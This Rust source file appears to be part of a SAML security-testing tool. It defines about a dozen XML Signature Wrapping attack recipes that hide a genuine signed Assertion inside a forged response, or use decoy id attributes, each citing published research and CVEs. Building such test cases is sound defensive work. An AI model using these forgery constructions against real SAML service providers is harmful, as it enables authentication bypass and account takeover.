//! Signature wrapping in the less obvious places: inside values, inside the Signature itself, under other names and ids.

use super::tools::{put_in_status_detail, rebind, saml};
use super::wrapping::{carry_signature, pair, take_signature};
use super::{Attack, WRAPPING};
use crate::recipe::RecipeError;
use crate::step::Step;
use crate::tree::Element;
use crate::workshop::Workshop;

pub(super) const XSW_IN_ATTRIBUTE_VALUE: Attack = Attack {
    id: "xsw_in_attribute_value",
    about: "The genuine, signed Assertion is parked in an AttributeValue of the forged one, which may hold anything.",
    source: "XSW-10; Somorovsky et al., On Breaking SAML, 2012",
    steps: &[Step::Signed(xsw_in_attribute_value)],
    ..WRAPPING
};

fn xsw_in_attribute_value(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    let (genuine, mut forged, place) = pair(workshop)?;
    let value = saml("Attribute").with("Name", "parked").holding(saml("AttributeValue").holding(genuine));
    let statement = forged.child_mut("AttributeStatement").ok_or(RecipeError::Missing("AttributeStatement"))?;
    statement.push(value);
    workshop.response.insert(place, forged);
    Ok(())
}

pub(super) const XSW_IN_CONFIRMATION_DATA: Attack = Attack {
    id: "xsw_in_confirmation_data",
    about: "The genuine, signed Assertion is parked in the SubjectConfirmationData of the forged one.",
    source: "XSW-10; core 2.4.1.2 lets anything stand there",
    steps: &[Step::Signed(xsw_in_confirmation_data)],
    ..WRAPPING
};

fn xsw_in_confirmation_data(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    let (genuine, mut forged, place) = pair(workshop)?;
    let data = forged.at_mut(&["Subject", "SubjectConfirmation", "SubjectConfirmationData"]);
    data.ok_or(RecipeError::Missing("SubjectConfirmationData"))?.push(genuine);
    workshop.response.insert(place, forged);
    Ok(())
}

pub(super) const XSW_IN_KEY_INFO: Attack = Attack {
    id: "xsw_in_key_info",
    about: "The forged Assertion carries the genuine Signature, whose KeyInfo holds the Assertion it refers to.",
    source: "XSW-8; C14-09",
    steps: &[Step::Signed(xsw_in_key_info)],
    ..WRAPPING
};

fn xsw_in_key_info(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    let (mut genuine, mut forged, place) = pair(workshop)?;
    let mut signature = take_signature(&mut genuine)?;
    signature.child_mut("KeyInfo").ok_or(RecipeError::Missing("KeyInfo"))?.push(genuine);
    carry_signature(&mut forged, signature);
    workshop.response.insert(place, forged);
    Ok(())
}

pub(super) const XSW_IN_UNKNOWN_ELEMENT: Attack = Attack {
    id: "xsw_in_unknown_element",
    about: "The genuine, signed Assertion is parked in an element that no schema knows, behind the forged one.",
    source: "XSW-10; CVE-2020-5390; pysaml2's xsw vectors",
    steps: &[Step::Signed(xsw_in_unknown_element)],
    ..WRAPPING
};

fn xsw_in_unknown_element(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    let (genuine, forged, place) = pair(workshop)?;
    workshop.response.insert(place, forged);
    workshop.response.push(Element::new("x:wrapper").with("xmlns:x", "urn:samlspec:unknown").holding(genuine));
    Ok(())
}

pub(super) const FORGED_IN_OBJECT: Attack = Attack {
    id: "forged_in_object",
    about: "The genuine Assertion keeps its signature, whose Object holds a forged one: enveloped-signature leaves it out of the digest.",
    source: "C14-09; samael's object_attack fixture",
    steps: &[Step::Signed(forged_in_object)],
    ..WRAPPING
};

fn forged_in_object(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    let (genuine, forged, place) = pair(workshop)?;
    let object = workshop.ds("Object").holding(forged);
    put_in_signature(workshop, genuine, place, &["Signature"], object)
}

pub(super) const FORGED_IN_KEY_INFO: Attack = Attack {
    id: "forged_in_key_info",
    about: "The genuine Assertion keeps its signature, whose KeyInfo holds a forged one outside the digest.",
    source: "C14-09; XSW-6",
    steps: &[Step::Signed(forged_in_key_info)],
    ..WRAPPING
};

fn forged_in_key_info(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    let (genuine, forged, place) = pair(workshop)?;
    put_in_signature(workshop, genuine, place, &["Signature", "KeyInfo"], forged)
}

fn put_in_signature(
    workshop: &mut Workshop<'_>,
    mut genuine: Element,
    place: usize,
    path: &[&str],
    hidden: Element,
) -> Result<(), RecipeError> {
    genuine.at_mut(path).ok_or(RecipeError::Missing("Signature or KeyInfo"))?.push(hidden);
    workshop.response.insert(place, genuine);
    Ok(())
}

pub(super) const XSW_IN_STATUS_DETAIL: Attack = Attack {
    id: "xsw_in_status_detail",
    about: "The forged Assertion stands in StatusDetail, before the genuine one in its place.",
    source: "XSW-10; XSW-7",
    steps: &[Step::Signed(xsw_in_status_detail)],
    ..WRAPPING
};

fn xsw_in_status_detail(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    let (genuine, forged, place) = pair(workshop)?;
    workshop.response.insert(place, genuine);
    put_in_status_detail(workshop, forged)
}

pub(super) const FORGED_IN_OTHER_NAMESPACE: Attack = Attack {
    id: "forged_in_other_namespace",
    about: "A forged Assertion in a namespace of its own stands before the genuine one: a search by local name finds it first.",
    source: "XSW-15; PortSwigger, The Fragile Lock, 2025; CVE-2025-25292",
    steps: &[Step::Signed(forged_in_other_namespace)],
    ..WRAPPING
};

fn forged_in_other_namespace(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    let (genuine, mut forged, place) = pair(workshop)?;
    rebind(&mut forged, "urn:samlspec:no-assertion");
    workshop.response.insert(place, genuine);
    workshop.response.insert(place, forged);
    Ok(())
}

pub(super) const DECOY_LOWER_CASE_ID: Attack = Attack {
    id: "decoy_lower_case_id",
    about: "A forged Assertion has no ID but an `id` with the genuine one's value, and stands before it.",
    source: "XSW-13; jellyfin-plugin-sso #1003",
    steps: &[Step::Signed(|workshop| decoy_id(workshop, "id"))],
    ..WRAPPING
};

pub(super) const DECOY_XML_ID: Attack = Attack {
    id: "decoy_xml_id",
    about: "A forged Assertion has no ID but an `xml:id` with the genuine one's value, and stands before it.",
    source: "XSW-13; PortSwigger, The Fragile Lock, 2025",
    steps: &[Step::Signed(|workshop| decoy_id(workshop, "xml:id"))],
    ..WRAPPING
};

pub(super) const DECOY_PREFIXED_ID: Attack = Attack {
    id: "decoy_prefixed_id",
    about: "A forged Assertion has an ID of its own and, under a prefix, another one with the genuine Assertion's value.",
    source: "XSW-13; CVE-2025-25291; PortSwigger, The Fragile Lock, 2025",
    steps: &[Step::Signed(decoy_prefixed_id)],
    ..WRAPPING
};

fn decoy_id(workshop: &mut Workshop<'_>, name: &str) -> Result<(), RecipeError> {
    let (genuine, mut forged, place) = pair(workshop)?;
    forged.unset("ID");
    forged.set(name, genuine.get("ID").unwrap_or_default());
    workshop.response.insert(place, genuine);
    workshop.response.insert(place, forged);
    Ok(())
}

fn decoy_prefixed_id(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    let (genuine, mut forged, place) = pair(workshop)?;
    forged.set("xmlns:decoy", "urn:samlspec:decoy");
    forged.set("decoy:ID", genuine.get("ID").unwrap_or_default());
    workshop.response.insert(place, genuine);
    workshop.response.insert(place, forged);
    Ok(())
}
